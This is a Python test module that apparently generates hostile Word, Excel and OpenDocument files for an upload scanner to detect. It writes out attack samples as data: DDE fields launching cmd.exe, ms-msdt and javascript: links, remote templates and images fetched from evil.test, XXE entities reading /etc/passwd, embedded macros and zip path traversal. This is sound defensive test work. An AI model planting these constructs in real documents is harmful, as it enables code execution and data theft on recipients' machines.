"""Office documents with programs, and that fetch things: LibreOffice's own, with a part more."""
# ruff: noqa: E501 - XML is easier to read in one piece

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator, Mapping

from tests.uploads.corpus.files import HTML, PHP, Areas, Hostile, honest
from tests.uploads.kinds.archives import Entry, by_hand
from tests.uploads.kinds.offices import docx, relations

FAMILY = "offices"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
EVIL = "https://evil.test/a"
KIND = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

Change = Callable[[bytes], bytes]
Changes = Mapping[str, bytes | Change]


def altered(name: str, changes: Changes) -> bytes:
    """Return an honest document with other or further parts, packed as it was."""
    out = io.BytesIO()
    left = dict(changes)
    with zipfile.ZipFile(io.BytesIO(honest(name))) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            change = left.pop(info.filename, None)
            content = old.read(info)
            if change is not None:
                changed = change(content) if callable(change) else change
                assert changed != content, (name, info.filename)
                content = changed
            new.writestr(info.filename, content, info.compress_type)
        for part, content in left.items():
            assert isinstance(content, bytes), (name, part)
            new.writestr(part, content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def swapped(old: bytes, new: bytes) -> Change:
    """Return what replaces the first of something."""

    def change(content: bytes) -> bytes:
        assert old in content, old
        return content.replace(old, new, 1)

    return change


def related(kind: str, target: str, mode: str = "External") -> Change:
    """Return what adds a relationship."""
    row = b'<Relationship Id="evil" Type="%s%s" Target="%s"%s/>' % (
        KIND,
        kind.encode(),
        target.encode(),
        f' TargetMode="{mode}"'.encode() if mode else b"",
    )
    return swapped(b"</Relationships>", row + b"</Relationships>")


def within(new: bytes, before: bytes = b"</w:body>") -> Change:
    """Return what adds something at the end of a text."""
    return swapped(before, new + before)


def field(text: str) -> bytes:
    """Return a field of Word."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        f"{text}</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
    ).encode()


def in_text(new: bytes) -> Changes:
    """Return the change of an ODF text that adds something at its end."""
    return {"content.xml": within(new, b"</office:text>")}


TEXT, RELS, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
SETTINGS = "word/_rels/settings.xml.rels"
BOOK_RELS = "xl/_rels/workbook.xml.rels"
MACRO = b"application/vnd.ms-word.document.macroEnabled.main+xml"
WORD: dict[str, tuple[Changes, Areas]] = {
    "macros": (
        {"word/vbaProject.bin": OLE, RELS: related("vbaProject", "vbaProject.bin", "")},
        ("office",),
    ),
    "macros under another name": (
        {RELS: related("vbaProject", "a.png", ""), "word/a.png": OLE},
        ("office",),
    ),
    "macros nobody refers to": ({"word/vbaProject.bin": b"x"}, ("office",)),
    "type of macros": (
        {
            TYPES: swapped(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                MACRO,
            )
        },
        ("content", "office"),
    ),
    "control": ({"word/activeX/activeX1.xml": b"<a/>"}, ("office",)),
    "button bar": ({"customUI/customUI.xml": b"<customUI onLoad='a'/>"}, ("office",)),
    "object of another program": ({"word/embeddings/oleObject1.bin": OLE}, ("office",)),
    "object that is linked": ({RELS: related("oleObject", EVIL)}, ("office",)),
    "object as a picture": ({"word/media/image9.png": OLE}, ("office",)),
    "template from outside": (
        {SETTINGS: relations(("attachedTemplate", f"{EVIL}.dotm", "External"))},
        ("office",),
    ),
    "template from a share": (
        {SETTINGS: relations(("attachedTemplate", "\\\\evil.test\\a.dotm", "External"))},
        ("office",),
    ),
    "template by mhtml": ({RELS: related("oleObject", f"mhtml:{EVIL}!x-usc:{EVIL}")}, ("office",)),
    "picture from outside": ({RELS: related("image", f"{EVIL}.png")}, ("office",)),
    "picture from a share": ({RELS: related("image", "file://evil.test/a.png")}, ("office",)),
    "outside without saying so": ({RELS: related("image", f"{EVIL}.png", "")}, ("office",)),
    "frame from outside": ({RELS: related("frame", f"{EVIL}.html")}, ("office",)),
    "sub-document": ({RELS: related("subDocument", "file:///etc/passwd")}, ("office",)),
    "link that runs": ({RELS: related("hyperlink", "javascript:alert(1)")}, ("office",)),
    "link of a protocol": ({RELS: related("hyperlink", "ms-msdt:/id PCWDiagnostic")}, ("office",)),
    "page as a chunk": (
        {
            RELS: related("aFChunk", "a.html", ""),
            "word/a.html": HTML,
            TEXT: within(b"<w:altChunk/>"),
        },
        ("office",),
    ),
    "dde": (
        {TEXT: within(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))},
        ("office",),
    ),
    "dde in pieces": (
        {
            TEXT: within(
                field("D").replace(
                    b"</w:instrText>", b"</w:instrText><w:instrText>DEAUTO x</w:instrText>"
                )
            )
        },
        ("office",),
    ),
    "dde at once": ({TEXT: within(b'<w:p><w:fldSimple w:instr=" DDE cmd x"/></w:p>')}, ("office",)),
    "picture by a field": ({TEXT: within(field(f'INCLUDEPICTURE "{EVIL}" \\d'))}, ("office",)),
    "text by a field": ({TEXT: within(field('INCLUDETEXT "file:///etc/passwd"'))}, ("office",)),
    "button of macros": ({TEXT: within(field("MACROBUTTON a b"))}, ("office",)),
    "entities": (
        {
            TEXT: swapped(
                b"<w:document", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document'
            )
        },
        ("xml",),
    ),
    "outside dtd": (
        {
            RELS: swapped(
                b"<Relationships", b'<!DOCTYPE a SYSTEM "https://evil.test/a"><Relationships'
            )
        },
        ("xml",),
    ),
    "document with macros inside": (
        {"word/embeddings/a.docx": docx({"word/vbaProject.bin": b"x"})},
        ("office",),
    ),
    "path": ({"../../evil.xml": b"<a/>"}, ("archive",)),
}
EXCEL: dict[str, tuple[Changes, Areas]] = {
    "macros": ({"xl/vbaProject.bin": OLE}, ("office",)),
    "old macros": ({"xl/macrosheets/sheet1.xml": b"<a/>"}, ("office",)),
    "other workbook": (
        {
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                ("externalLinkPath", f"{EVIL}.xlsx", "External")
            )
        },
        ("office",),
    ),
    "dde": (
        {
            "xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
        },
        ("office",),
    ),
    "query": ({BOOK_RELS: related("connections", f"{EVIL}.iqy")}, ("office",)),
    "object": ({"xl/embeddings/oleObject1.bin": OLE}, ("office",)),
    "control": ({"xl/activeX/activeX1.bin": OLE}, ("office",)),
}
ODF: dict[str, tuple[Changes, Areas]] = {
    "macros": ({"Basic/Standard/Module1.xml": b"<a/>"}, ("office",)),
    "macros of Python": ({"Scripts/python/evil.py": b"import os"}, ("office",)),
    "event": (
        {
            "content.xml": swapped(
                b"<office:body>",
                b'<office:scripts><office:event-listeners><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
                b'script:language="ooo:script" script:event-name="dom:load"/></office:event-listeners></office:scripts><office:body>',
            )
        },
        ("office",),
    ),
    "link of a macro": (
        in_text(
            b'<text:p><text:a xlink:href="vnd.sun.star.script:a?language=Basic">x</text:a></text:p>'
        ),
        ("office",),
    ),
    "link that runs": (
        in_text(b'<text:p><text:a xlink:href="javascript:a">x</text:a></text:p>'),
        ("office",),
    ),
    "picture from outside": (
        in_text(
            b'<text:p><draw:frame><draw:image xlink:href="https://evil.test/a"/></draw:frame></text:p>'
        ),
        ("office",),
    ),
    "picture from a share": (
        in_text(
            b'<text:p><draw:frame><draw:image xlink:href="\\\\evil.test\\a"/></draw:frame></text:p>'
        ),
        ("office",),
    ),
    "section from outside": (
        in_text(
            b'<text:section><text:section-source xlink:href="file:///etc/passwd"/></text:section>'
        ),
        ("office",),
    ),
    "frame": (
        in_text(
            b'<text:p><draw:frame><draw:floating-frame xlink:href="https://evil.test/"/></draw:frame></text:p>'
        ),
        ("office",),
    ),
    "plugin": (
        in_text(b'<text:p><draw:frame><draw:plugin xlink:href="a"/></draw:frame></text:p>'),
        ("office",),
    ),
    "object": ({"Object 9": OLE}, ("office",)),
    "entities": (
        {
            "content.xml": swapped(
                b"<office:document-content",
                b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><office:document-content',
            )
        },
        ("xml",),
    ),
    "page behind": ({"Thumbnails/a.html": HTML, "../a.html": HTML}, ("archive",)),
}


def files() -> Iterator[Hostile]:
    """Yield the family."""
    for extension, base, rows in (
        ("docx", "text-links.docx", WORD),
        ("xlsx", "sheet-link.xlsx", EXCEL),
        ("odt", "text-links.odt", ODF),
    ):
        for title, (changes, areas) in rows.items():
            content = altered(base, changes)
            yield Hostile(FAMILY, f"{extension}, {title}", f"a.{extension}", content, areas)
        whole = honest(base)
        for title, content in (
            ("behind a page", HTML + whole),
            ("before a page", whole + HTML),
            ("before a program", whole + PHP),
        ):
            areas = ("content", "archive")
            yield Hostile(FAMILY, f"{extension}, {title}", f"a.{extension}", content, areas)
    two = by_hand(
        Entry(b"[Content_Types].xml", b"<a/>"),
        Entry(b"[Content_Types].xml", b"<b/>"),
        Entry(b"word/a", b"x"),
    )
    yield Hostile(FAMILY, "docx, two lists of types", "a.docx", two, ("archive",))
